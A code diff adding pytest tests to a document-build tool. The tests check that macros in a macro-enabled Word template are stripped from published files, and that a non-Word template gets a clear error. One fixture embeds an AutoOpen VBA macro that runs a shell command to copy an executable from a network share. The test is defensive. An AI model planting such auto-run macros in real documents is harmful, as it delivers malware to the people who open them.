@@ -112,3 +112,64 @@ def test_template_header_text_no_reader_sees_is_redacted_too(tmp_path: Path, cap
     for shown in ("Meridian Infusion Systems", "Product security", "Branding", "Public", "Top"):
         assert shown in header, shown
     assert "INCLUDEPICTURE" in header and "HYPERLINK" in header
+
+
+def test_a_macro_enabled_template_gives_documents_without_its_macros(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A .dotm template was refused naming a temporary file; as a .docx holding a macro project, its macros
+    (code naming a share on the maker's network) were copied into every published Word file."""
+    project = tmp_path / "proj"
+    project.mkdir()
+    (project / "model.yaml").write_text(MODEL)
+    d = docx.Document()
+    d.sections[0].header.paragraphs[0].text = "Meridian Infusion Systems"
+    plain = tmp_path / "plain.docx"
+    d.save(str(plain))
+    code_text = b'Attribute VB_Name = "AutoOpen"\r\nSub AutoOpen()\r\n Shell "cmd /c copy \\\\share01\\drop\\x.exe"\r\nEnd Sub'
+    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(project / "brand.dotm", "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info)
+            if info.filename == "word/_rels/document.xml.rels":
+                data = data.replace(
+                    b"</Relationships>",
+                    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+                    b'Target="vbaProject.bin"/></Relationships>',
+                )
+            elif info.filename == "[Content_Types].xml":
+                data = data.replace(
+                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                    b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
+                ).replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
+            zout.writestr(info, data)
+        zout.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 100 + code_text + b"\x00" * 50)
+    (project / "mdptm.yaml").write_text("sources: [model.yaml]\ntemplate: brand.dotm\n")
+    code, _, err = run(["build", str(project), "-o", str(tmp_path / "pkg")], capsys)
+    assert code == 0, err
+    words = sorted((tmp_path / "pkg").rglob("*.docx"))
+    assert words
+    for path in words:
+        with zipfile.ZipFile(path) as zf:
+            names = zf.namelist()
+            rels = zf.read("word/_rels/document.xml.rels").decode()
+            types = zf.read("[Content_Types].xml").decode()
+            header = next(zf.read(n).decode() for n in names if n.startswith("word/header"))
+        assert not [n for n in names if "vba" in n.lower()], path
+        assert "vbaProject" not in rels and "macroEnabled" not in types and "template.main" not in types
+        assert "wordprocessingml.document.main+xml" in types
+        assert "Meridian Infusion Systems" in header
+    assert not holds(package_text(tmp_path / "pkg"), "share01")
+
+
+def test_a_template_that_is_no_word_document_is_named_as_the_projects_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The error named the scrubbed copy in the work folder (/tmp/mdptm-work-…/template.docx)."""
+    import openpyxl
+
+    project = tmp_path / "proj"
+    project.mkdir()
+    (project / "model.yaml").write_text(MODEL)
+    openpyxl.Workbook().save(project / "brand.docx")  # a workbook under a Word name
+    (project / "mdptm.yaml").write_text("sources: [model.yaml]\ntemplate: brand.docx\n")
+    code, _, err = run(["build", str(project), "-o", str(tmp_path / "pkg")], capsys)
+    assert code == 2, err
+    assert str(project / "brand.docx") in err and "not a usable Word template" in err
+    assert "mdptm-work-" not in err and "template.docx" not in err
+    assert not (tmp_path / "pkg").exists()
